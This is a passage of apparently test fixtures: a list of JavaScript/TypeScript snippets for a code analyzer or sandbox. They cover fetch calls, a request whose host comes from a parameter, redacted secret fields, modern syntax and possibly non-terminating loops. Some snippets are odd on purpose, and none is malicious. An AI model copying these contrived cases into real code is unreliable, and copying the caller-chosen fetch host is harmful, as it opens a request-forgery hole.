      const request = new Request("https://api.example.com/r", { method: "PATCH", body: "{}" });
      const response = await fetch(request);
      const reader = response.body!.getReader();
      let bytes = 0;
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) bytes += chunk.value.length;
      return bytes;
    };
    """,
    """
    const fix = async (params, error) => ({ id: crypto.randomUUID(), at: new Date().toISOString() });
    export { fix as default };
    """,
    """
    // A name that looks like another one's: event, name, status, process are common in data.
    export default (params, error) => {
      const { name, status, event } = error.captured;
      return `${name}: ${status} in ${event} (${error.captured.process ?? "?"}, ${params.location ?? "?"})`;
    };
    """,
    """
    export default (params) => {
      const groups = Object.groupBy(params.rows, (row: { kind: string }) => row.kind);
      const sorted = Object.keys(groups).toSorted();
      return sorted.map((kind) => [kind, groups[kind]?.length ?? 0]);
    };
    """,
    """
    export default async () => {
      using resource = { [Symbol.dispose]() { console.log("closed"); } };
      await Promise.resolve(resource);
      return BigInt(5).toString() + [1, 2, 3].at(-1);
    };
    """,
    "export default function* () { yield 1; yield* [2, 3]; }",
    "(async () => { const r = await fetch(`https://api.example.com/x`); console.log(r.status); })();",
    "async function main() { console.log(await Promise.resolve(1)); }\nmain().catch((failure) => console.error(failure));",
    "export default (params) => params?.a?.b?.[0]?.c?.toUpperCase?.() ?? 'none'",
    "export default 42",
    "export type A = string; export interface B { a: A }\nconsole.log(1)",
    "export {};\nconsole.log(1)",
    "const f = (...all: any[]) => all;\nconsole.log([...f('a', 'b', 1), 2, ...f(1, 2), ...(params.x as any[]), , 3])",
    "declare enum E { A }\ntype Foo = string;\nexport type { Foo };\nconsole.log(1)",
    "class MyError extends Error { constructor(m: string) { super(m); this.name = new.target.name } }\nthrow new MyError('x')",
    "const fields = ['password', 'token', 'secret'];\nconsole.log(fields, { password: '[redacted]', token: '***' })",
    "function f() {};\nclass A { m() {}; n() {} };\nif (params.a) {} else ;\nf();",
    "class Box<T extends { a: Map<string, T[]> }, U = () => void> { constructor(public value: T) {} }\nconsole.log(new Box<any>(1).value)",
    "const add = (a: number) => (b: number) => a + b;\nconst table = new Map([['a', () => 1]]);\nconsole.log(add(1)(2), table.get(params.key)!())",
    "const seen = new Set([1]);\nfor (const x of seen) if (x < 5) seen.add(x + 1);\nconst list = [1];\nfor (let i = 0; i < list.length; i++) { if (i < 5) list.push(i); }",
    "let ok = true;\ndo { ok = true; for (const x of params.xs) if (!x) ok = false; } while (!ok);\nlet failures = 0;\ndo { failures = 0; for (const x of params.xs) if (!x) failures++; } while (failures > 0);",
    "const u = new URL('https://api.example.com/a');\nu.pathname = '/b';\nu.host = params.host;\nawait fetch(u)",
    "const pick = (o, key) => o[key];\nconst get = (path) => path.split('.').reduce((o, key) => o?.[key], params);\nconst table = { a: () => 1 };\nconst choose = (key) => table[key];\nconst act = choose(params.key);\nconsole.log(pick(params, 'a'), get('a.b'), act())",
)
